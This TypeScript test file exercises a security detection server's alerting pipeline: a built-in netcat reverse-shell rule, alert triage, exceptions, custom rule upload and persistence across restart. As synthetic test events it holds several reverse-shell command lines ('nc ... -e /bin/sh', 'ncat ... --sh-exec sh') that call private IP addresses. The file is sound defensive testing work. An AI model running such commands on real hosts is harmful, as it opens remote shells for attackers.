// Detection in the embedded server, end to end over the real ingest path: an event sent by an agent raises
// the built-in netcat rule's alert (with the rule's author), analysts triage it through the API, rules are
// uploaded (a broken one is refused with its error), disabled, and all of it survives a restart.

import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { TestServer } from '../support/embedded-server.ts';
import { eventually as eventuallyWithin } from '../support/vigil-process.ts';
import type { VigilEvent } from '../../src/schema/event.ts';

let t: TestServer;

before(async () => { t = await TestServer.start('detect-host'); });
after(() => t.stop());

const api = (method: string, path: string, body?: unknown) => t.api(method, path, body);
const eventually = <T>(probe: () => Promise<T | undefined>, what: string) => eventuallyWithin(probe, 15_000, what);

function processStart(exe: string, args: string[]): VigilEvent {
  const e = t.agent.syntheticEvents(1)[0];
  e.process = { ...e.process!, executable: exe, name: exe.split('/').pop(), args, command_line: args.join(' ') };
  return e;
}

async function alertsFor(eventId: string): Promise<any[]> {
  const r = await api('GET', '/api/v1/alerts?limit=1000');
  return r.body.alerts.filter((a: any) => a.event_ids.includes(eventId));
}

test('a netcat reverse shell raises the built-in alert, with author and MITRE techniques, and is triaged', async () => {
  const ev = processStart('/usr/bin/nc', ['/usr/bin/nc', '10.9.8.7', '4444', '-e', '/bin/sh']);
  const benign = processStart('/usr/bin/nc', ['/usr/bin/nc', '-z', '10.9.8.7', '22']);
  await t.agent.send([ev, benign]);
  const [alert] = await eventually(async () => ((await alertsFor(ev.event.id)).length ? alertsFor(ev.event.id) : undefined), 'the alert');
  assert.equal(alert.rule.title, 'Netcat Reverse Shell');
  assert.equal(alert.rule.author, 'Vigil');
  assert.equal(alert.severity, 'high');
  assert.equal(alert.status, 'open');
  assert.equal(alert.host_id, t.agent.identity.agentId);
  assert.equal(alert.process_entity_id, ev.process!.entity_id);
  assert.ok(alert.techniques.some((t: any) => t.id === 'T1059.004' && t.name && t.tactics.length), JSON.stringify(alert.techniques));
  assert.deepEqual(await alertsFor(benign.event.id), [], 'a port scan without -e is no reverse shell');

  await t.agent.send([ev]); // a re-delivered event does not raise a second alert
  await new Promise((r) => setTimeout(r, 300));
  assert.equal((await alertsFor(ev.event.id)).length, 1);

  const acked = await api('POST', `/api/v1/alerts/${alert.id}/acknowledge`, {});
  assert.equal(acked.body.status, 'acknowledged');
  await api('POST', `/api/v1/alerts/${alert.id}/comment`, { text: 'looking into it' });
  await api('POST', `/api/v1/alerts/${alert.id}/assign`, { assignee: 'alice' });
  const closed = await api('POST', `/api/v1/alerts/${alert.id}/close`, { reason: 'red team exercise', disposition: 'true_positive' });
  assert.equal(closed.body.status, 'closed');
  assert.equal(closed.body.close_reason, 'red team exercise');
  assert.equal(closed.body.assignee, 'alice');
  assert.deepEqual(closed.body.comments.map((c: any) => c.text), ['looking into it']);
  assert.equal((await api('POST', `/api/v1/alerts/${alert.id}/close`, {})).status, 400, 'closing needs a reason');
  assert.equal((await api('POST', `/api/v1/alerts/${alert.id}/close`, { reason: 'x' })).status, 400, 'closing needs a disposition');
  assert.equal((await api('POST', '/api/v1/alerts/no-such-alert/acknowledge', {})).status, 404);
  const filtered = await api('GET', '/api/v1/alerts?status=closed&severity=high');
  assert.ok(filtered.body.alerts.some((a: any) => a.id === alert.id));
  assert.equal((await api('GET', '/api/v1/alerts?status=bogus')).status, 400);
});

test('an exception made from an alert: later matching alerts arrive excepted and are not told to listeners; others stay open', async () => {
  const told: string[] = [];
  t.server.detection.onAlert((a) => told.push(a.id));
  const first = processStart('/usr/bin/ncat', ['/usr/bin/ncat', '10.1.1.1', '9001', '--sh-exec', 'sh']);
  await t.agent.send([first]);
  const [a] = await eventually(async () => ((await alertsFor(first.event.id)).length ? alertsFor(first.event.id) : undefined), 'the alert');
  assert.ok(told.includes(a.id), 'the first alert is told to listeners');
  assert.equal((await api('POST', `/api/v1/alerts/${a.id}/suppress`, { reason: 'r', until: new Date(Date.now() + 60_000).toISOString() })).body.code, 'suppress_removed');
  const e = await api('POST', `/api/v1/alerts/${a.id}/exception`, { fields: ['process.executable'], reason: 'known admin script' });
  assert.equal(e.status, 201);
  assert.deepEqual(e.body.conditions, [{ field: 'process.executable', op: 'equals', value: '/usr/bin/ncat' }]);
  const second = processStart('/usr/bin/ncat', ['/usr/bin/ncat', '10.1.1.2', '9001', '--sh-exec', 'sh']);
  const other = processStart('/usr/bin/nc', ['/usr/bin/nc', '-e', '/bin/sh', '10.1.1.3', '9001']);
  await t.agent.send([second, other]);
  const [b] = await eventually(async () => ((await alertsFor(second.event.id)).length ? alertsFor(second.event.id) : undefined), 'the second alert');
  const [c] = await eventually(async () => ((await alertsFor(other.event.id)).length ? alertsFor(other.event.id) : undefined), 'the other alert');
  assert.deepEqual([b.status, b.exception_id], ['excepted', e.body.id]);
  assert.equal(c.status, 'open', 'another executable is not excepted');
  assert.ok(!told.includes(b.id), 'the excepted alert is not told to listeners (sinks, live feed)');
  assert.ok(told.includes(c.id));
  const excepted = await api('GET', '/api/v1/alerts?status=excepted');
  assert.ok(excepted.body.alerts.some((x: any) => x.id === b.id));
  const deleted = await fetch(`${t.server.httpUrl}/api/v1/exceptions/${e.body.id}`, { method: 'DELETE', headers: { authorization: `Bearer ${readFileSync(t.server.adminKeyPath, 'utf8').trim()}` } });
  assert.equal(deleted.status, 204);
});

const CUSTOM_RULE = `title: Test marker tool
id: 0c4b8f9e-1111-4a2b-9c3d-5e6f7a8b9c0d
status: experimental
author: Vigil tests
logsource:
  product: linux
  category: process_creation
detection:
  selection:
    Image|endswith: '/vigil-marker-tool'
  condition: selection
level: medium
`;

test('rules: a broken upload is refused with its error; a good one detects, can be disabled, and survives a restart', async () => {
  const broken = await api('POST', '/api/v1/rules', { yaml: CUSTOM_RULE.replace('condition: selection', 'condition: selection and missing') });
  assert.equal(broken.status, 400);
  assert.match(broken.body.errors[0].message, /missing/);

  const created = await api('POST', '/api/v1/rules', { yaml: CUSTOM_RULE });
  assert.equal(created.status, 201, JSON.stringify(created.body));
  const id = created.body.ids[0];
  assert.equal(created.body.rules[0].source, 'custom');
  assert.equal((await api('POST', '/api/v1/rules', { yaml: CUSTOM_RULE })).status, 409, 'the same id twice');

  const hit = processStart('/opt/x/vigil-marker-tool', ['/opt/x/vigil-marker-tool', '--go']);
  const dry = await api('POST', '/api/v1/rules/test', { yaml: CUSTOM_RULE, hours: 1 });
  assert.equal(dry.status, 200);
  await t.agent.send([hit]);
  const [alert] = await eventually(async () => ((await alertsFor(hit.event.id)).length ? alertsFor(hit.event.id) : undefined), 'the custom alert');
  assert.equal(alert.rule.author, 'Vigil tests');
  const dryAfter = await api('POST', '/api/v1/rules/test', { yaml: CUSTOM_RULE, hours: 1 });
  assert.ok(dryAfter.body.matches >= 1, 'the dry run finds the stored event');

  assert.equal((await api('POST', `/api/v1/rules/${id}/disable`)).body.enabled, false);
  const missed = processStart('/opt/y/vigil-marker-tool', ['/opt/y/vigil-marker-tool']);
  await t.agent.send([missed]);
  await new Promise((r) => setTimeout(r, 500));
  assert.deepEqual(await alertsFor(missed.event.id), [], 'a disabled rule raises nothing');
  assert.equal((await api('DELETE', '/api/v1/rules/5b1c7e2a-0d4f-4a6b-9c3e-7a1d00000001')).status, 409, 'built-in rules are read-only');

  await t.restart('detect-host-2');
  const after = await api('GET', `/api/v1/rules/${id}`);
  assert.equal(after.status, 200);
  assert.equal(after.body.enabled, false, 'the switch survived the restart');
  assert.equal(after.body.text, CUSTOM_RULE);
  assert.ok((await alertsFor(hit.event.id)).length === 1, 'alerts survive the restart');
  assert.equal((await api('DELETE', `/api/v1/rules/${id}`)).status, 200);
  assert.equal((await api('GET', `/api/v1/rules/${id}`)).status, 404);
});

test('one alert per rule and process: a process that matches again is a repeat; it carries the process and its ancestors; Vigil\'s own processes and start-up snapshots raise nothing', async () => {
  const [shell, nc] = t.agent.syntheticEvents(2);
  shell.process = { ...shell.process!, pid: 4100, executable: '/bin/bash', name: 'bash', args: ['bash', '-i'], command_line: 'bash -i', entity_id: 'ent-shell', start: shell['@timestamp'] };
  delete shell.process.parent;
  shell.user = { id: '1000', name: 'jim' };
  nc.process = { ...nc.process!, pid: 4101, ppid: 4100, executable: '/usr/bin/nc', name: 'nc', args: ['nc', '10.1.1.1', '9', '-e', '/bin/sh'],
    command_line: 'nc 10.1.1.1 9 -e /bin/sh', entity_id: 'ent-nc', start: nc['@timestamp'], parent: { pid: 4100, entity_id: 'ent-shell', executable: '/bin/bash' } };
  nc.user = { id: '1000', name: 'jim' };
  // The same process execs the same command twice more (a new event each time: a repeat, not a re-delivery).
  const again = (id: string) => ({ ...structuredClone(nc), event: { ...nc.event, id } });
  await t.agent.send([shell, nc, again(`${nc.event.id.slice(0, -4)}aaa1`), again(`${nc.event.id.slice(0, -4)}aaa2`)]);
  const alert = await eventually(async () => {
    const found = (await alertsFor(nc.event.id))[0];
    return found?.occurrences === 3 ? found : undefined;
  }, 'one alert with three occurrences');
  const all = (await api('GET', '/api/v1/alerts?limit=1000')).body.alerts.filter((a: any) => a.process_entity_id === 'ent-nc');
  assert.equal(all.length, 1, 'the matches of one process are one alert');
  const got = (await api('GET', `/api/v1/alerts/${alert.id}`)).body;
  assert.equal(got.process.entity_id, 'ent-nc');
  assert.equal(got.process.command_line, 'nc 10.1.1.1 9 -e /bin/sh');
  assert.equal(got.process.user_name, 'jim');
  assert.deepEqual(got.ancestors.map((a: any) => [a.entity_id, a.executable]), [['ent-shell', '/bin/bash']]);

  const [own, snapshot] = t.agent.syntheticEvents(2);
  for (const [e, entity] of [[own, 'ent-own'], [snapshot, 'ent-snap']] as const) {
    e.process = { ...e.process!, executable: '/usr/bin/nc', name: 'nc', args: ['nc', '10.1.1.1', '9', '-e', '/bin/sh'], command_line: 'nc 10.1.1.1 9 -e /bin/sh', entity_id: entity };
  }
  own.labels = { 'vigil.self': 'true' };
  snapshot.event.action = 'snapshot';
  await t.agent.send([own, snapshot]);
  await new Promise((r) => setTimeout(r, 1500));
  assert.deepEqual([...await alertsFor(own.event.id), ...await alertsFor(snapshot.event.id)], []);
});
